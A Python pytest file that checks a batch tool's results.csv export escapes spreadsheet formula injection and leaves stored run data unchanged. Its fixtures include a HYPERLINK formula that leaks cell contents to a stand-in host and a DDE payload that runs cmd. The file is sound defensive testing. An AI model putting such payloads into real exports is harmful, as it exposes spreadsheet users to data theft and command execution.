"""results.csv opened in a spreadsheet: no cell may start a formula, and nothing else changes.

Runs are real run state in Redis (rows written with put_rows, results with record), rendered with
render_results and read back with the csv module, as a spreadsheet would split the cells.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
import redis

from kontext_batch.coord.keys import Keys
from kontext_batch.coord.runs import RunStore
from kontext_batch.jobspec import JobSpec
from kontext_batch.steps.results import COLUMNS, render_results

RUN = "r-formulas"
HYPERLINK = '=HYPERLINK("http://127.0.0.1/x?leak="&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"


def spec(row: int, *, id: str, prompt: str, extra: dict[str, str], seed: int | None = None) -> dict[str, Any]:
    params: dict[str, Any] = {} if seed is None else {"seed": seed}
    return JobSpec(
        row=row,
        id=id,
        endpoint="flux-kontext-pro",
        prompt=prompt,
        params=params,
        images=[],
        digests=[],
        output_name=f"{row}.png",
        output_format="png",
        extra=extra,
    ).to_json()


@pytest.fixture
def runs(redis_client: redis.Redis) -> RunStore:
    store = RunStore(redis_client, Keys())
    specs = [
        spec(1, id="@SUM(A1)", prompt=HYPERLINK, extra={"sku": "-2+3", "=evil": "\tTAB", "note": "\rCR"}, seed=7),
        spec(2, id=DDE, prompt="-2+3", extra={"sku": "FW-1042", "=evil": "a=b", "note": "plain"}),
        spec(3, id="fine", prompt="Make it blue", extra={"sku": "=1+1", "=evil": "mid\rcell", "note": "@me"}),
        spec(4, id="waiting", prompt="+1", extra={"sku": "x", "=evil": "y", "note": "z"}),
    ]
    store.register(
        RUN, {"id": RUN, "output": "memory://t", "total": len(specs), "extra_columns": ["sku", "=evil", "note"]}
    )
    store.put_rows(RUN, [(s["row"], s) for s in specs])
    base: dict[str, Any] = {"attempts": 1, "polls": 2, "submitted_at": 1_700_000_000, "finished_at": 1_700_000_004}
    store.record(RUN, 1, {**base, "status": "succeeded", "output_uri": "memory://t/1.png"})
    store.record(RUN, 2, {**base, "status": "failed", "error": "=HYPERLINK(1) refused: -bad"})
    store.record(RUN, 3, {**base, "status": "moderated", "error": "@mention", "bfl_task_id": "-t"})
    return store


def parsed(runs: RunStore) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.reader(io.StringIO(render_results(runs, RUN), newline=""))
    header, *lines = list(reader)
    return header, [dict(zip(header, line, strict=True)) for line in lines]


def test_cells_that_would_start_a_formula_get_a_leading_quote(runs: RunStore) -> None:
    header, rows = parsed(runs)
    assert header == [*COLUMNS, "sku", "'=evil", "note"]
    one, two, three, four = rows
    assert (one["id"], one["prompt"]) == ("'@SUM(A1)", "'" + HYPERLINK)
    assert (one["sku"], one["'=evil"], one["note"]) == ("'-2+3", "'\tTAB", "'\rCR")
    assert (two["id"], two["prompt"], two["error"]) == ("'" + DDE, "'-2+3", "'=HYPERLINK(1) refused: -bad")
    assert (three["sku"], three["note"], three["error"], three["bfl_task_id"]) == ("'=1+1", "'@me", "'@mention", "'-t")
    assert (four["status"], four["prompt"]) == ("pending", "'+1")


def test_no_cell_starts_a_formula(runs: RunStore) -> None:
    header, rows = parsed(runs)
    cells = header + [cell for row in rows for cell in row.values()]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_other_cells_are_exact(runs: RunStore) -> None:
    _, rows = parsed(runs)
    one, two, three, _ = rows
    assert (one["row"], one["status"], one["seed"], one["attempts"], one["polls"]) == ("1", "succeeded", "7", "1", "2")
    assert (one["output_uri"], one["model"], one["job_id"]) == ("memory://t/1.png", "flux-kontext-pro", f"{RUN}:1")
    assert one["submitted_at"] == "2023-11-14T22:13:20.000Z"
    assert (two["sku"], two["'=evil"], two["note"]) == ("FW-1042", "a=b", "plain")
    assert (three["id"], three["prompt"], three["'=evil"]) == ("fine", "Make it blue", "mid\rcell")


def test_the_run_state_keeps_the_exact_text(runs: RunStore) -> None:
    """Only the CSV is escaped: the row as stored (and the sidecars built from it) is untouched."""
    render_results(runs, RUN)
    assert runs.row(RUN, 1)["prompt"] == HYPERLINK
    assert runs.row(RUN, 1)["extra"]["note"] == "\rCR"
    results = {row: res for row, _, res in runs.iter_results(RUN, 4)}
    assert results[2]["error"] == "=HYPERLINK(1) refused: -bad"
